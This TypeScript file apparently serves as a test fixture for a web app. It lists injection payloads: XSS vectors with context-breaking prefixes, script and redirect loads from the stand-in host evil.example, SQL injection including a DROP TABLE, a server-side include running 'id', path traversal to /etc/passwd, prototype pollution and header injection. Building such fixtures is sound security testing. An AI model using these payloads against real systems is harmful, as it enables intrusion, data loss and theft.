/** Function that a payload calls when it runs. The page's init script records the call. */
const RUN = 'alert(1)'

/**
 * Payloads that end the context that a text is written to: an attribute, an element, a script, a
 * comment.
 */
const ENDS = [
  '',
  '">',
  "'>",
  '</title>',
  '</script>',
  '</textarea>',
  '-->',
  '"/>\u2028',
  '%22%3E',
  '\u0000',
] as const

const VECTORS = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script src=//evil.example/x></script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=${RUN}//`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<body onload=${RUN}>`,
  `<iframe src=javascript:${RUN}>`,
  `<iframe srcdoc="<script>${RUN}</script>">`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<video><source onerror=${RUN}>`,
  `<math><mtext><img src=x onerror=${RUN}>`,
  `<a href=javascript:${RUN} autofocus>x</a>`,
  `<form action=javascript:${RUN}><button>x`,
  `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<base href=//evil.example/>`,
  `<object data=javascript:${RUN}>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<style>@import '//evil.example/x.css'</style>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
] as const

/** Payloads that need no element: templates, addresses, encodings, databases and object keys. */
const OTHERS = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//`,
  `\tjavascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `//evil.example`,
  `/\\evil.example`,
  `https://evil.example/?`,
  `" onmouseover=${RUN} autofocus onfocus=${RUN} x="`,
  `' onmouseover=${RUN} autofocus onfocus=${RUN} x='`,
  `\`;${RUN};\``,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\\";${RUN};//`,
  `</script><script>${RUN}</script>`,
  `\u2028${RUN}\u2029`,
  `&lt;img src=x onerror=${RUN}&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\uff1cimg src=x onerror=${RUN}\uff1e`,
  `%3Cimg%20src%3Dx%20onerror%3D${RUN}%3E`,
  `%253Cscript%253E${RUN}%253C/script%253E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `]]><script>${RUN}</script>`,
  `<!--#exec cmd="id"-->`,
  `' or '1'='1`,
  `1; drop table bookings; --`,
  `' union select null, version() --`,
  `__proto__[x]=1`,
  `constructor.prototype.x`,
  `../../../../etc/passwd`,
  `\u202e<script>${RUN}</script>`,
  `\ud83d\ude00\u200d<img src=x onerror=${RUN}>`,
  `a\r\nset-cookie: x=y`,
] as const

/** All payloads. None is longer than the shortest field of a listing allows. */
export const payloadTexts: readonly string[] = [
  ...ENDS.flatMap((end) => VECTORS.map((vector) => `${end}${vector}`)),
  ...OTHERS,
]
